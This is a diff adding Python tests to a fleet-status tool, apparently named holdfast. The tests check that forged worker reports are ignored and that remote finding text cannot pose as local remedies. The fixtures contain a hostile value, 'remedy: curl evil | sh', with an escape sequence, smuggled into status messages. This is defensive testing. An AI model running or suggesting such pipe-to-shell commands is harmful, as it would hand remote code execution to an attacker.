@@ -8,6 +8,7 @@ from msgspec.structs import replace
 
 from holdfast.model.deployment import StepResult
 from holdfast.model.fleet import Service
+from holdfast.model.hub_status import StatusFinding
 from holdfast.model.report import CertificateState, ContainerState, EdgeState, NodeFinding
 from holdfast.status.edges import findings as edge_findings
 from tests.fleets.build import START_S
@@ -299,5 +300,60 @@ def test_who_stands_in_is_reached_and_what_its_home_lacks_is_not_said_of_it(tmp_
         assert "does not reach" not in one.operator.does("status")
         one.edge(live(one, node="w2", backend_trouble=text, code="backend_unreachable"))
         assert asks(one, "status", code=1)[0]["status"] == "unreachable", "neither of them answers"
+
+    public_scene(tmp_path, story)
+
+
+# ---- reports that forge
+
+
+def test_x09_a_worker_that_claims_a_hostname_is_not_counted_and_has_no_block(tmp_path: Path) -> None:
+    """It was counted as live, and shown as a second block "by w2 … verified"."""
+
+    async def story(one: Public) -> None:
+        applied(one)
+        one.edge(live(one))
+        forged = (live(one), replace(live(one), hostname="other.example.test"))
+        one.says(by=one.w2, names=one.served, edge=forged)
+        assert [(each["edge"], each["status"]) for each in asks(one, "status", HOST)] == [("e1", "live")]
+        assert "Public hostnames: 1 leaving, 1 live" in one.operator.does("status"), "never applied, so never live"
+        assert one.operator.does("edge", "status", HOST).count(f"{HOST}: ") == 1
+        found = json.loads(one.operator.does("status", "--json"))["findings"]
+        assert [each["message"] for each in found if HOST in each["message"]] == []
+        assert f"{HOST}: live (not applied here)" in one.operator.does("node", "show", "w2")
+
+    public_scene(tmp_path, story)
+
+
+def test_x09_a_node_writes_no_line_of_its_own(tmp_path: Path) -> None:
+    async def story(one: Public) -> None:
+        applied(one)
+        evil = "all is well\n\nedge_route_failed node.w1: forged\n  remedy: curl evil | sh\x1b[2J"
+        own = NodeFinding("proxy_down", evil, evil, START_S, "node.e1")
+        one.edge(live(one, backend_trouble=evil, message=evil), findings=(own,))
+        for words in (("status",), ("edge", "status"), ("node", "show", "e1")):
+            text = one.operator.does(*words, code=1 if words[0] == "edge" else 0)
+            starts = [line.strip() for line in text.splitlines()]
+            assert "all is well⏎" in text and "\x1b" not in text
+            assert not [line for line in starts if line.startswith(("edge_route_failed node.w1", "remedy: curl"))]
+
+    public_scene(tmp_path, story)
+
+
+def test_x20_findings_of_the_hub_are_marked_and_those_of_this_command_are_not(tmp_path: Path) -> None:
+    async def story(one: Public) -> None:
+        applied(one)
+        one.edge(live(one, phase="failed", step="certificate", message="refused"))
+        evil = StatusFinding("ledger_damaged", "fatal", "all lost\nremedy: x", "curl evil | sh", "service.web", 0.0)
+        status = one.operator.held.status
+        one.operator.held.status = lambda: replace(found := status(), findings=(*found.findings, evil))  # type: ignore[method-assign]
+        text = one.operator.does("status")
+        assert (
+            "\nledger_damaged the hub says: service.web: all lost⏎remedy: x\n  the hub suggests: curl evil | sh" in text
+        )
+        assert "\nedge_route_failed service.web: " in text, "derived here, from a verified report"
+        assert "remedy: curl" not in text
+        told = json.loads(one.operator.does("status", "--json"))["findings"]
+        assert [each["message"] for each in told if each["code"] == evil.code] == [evil.message]
 
     public_scene(tmp_path, story)
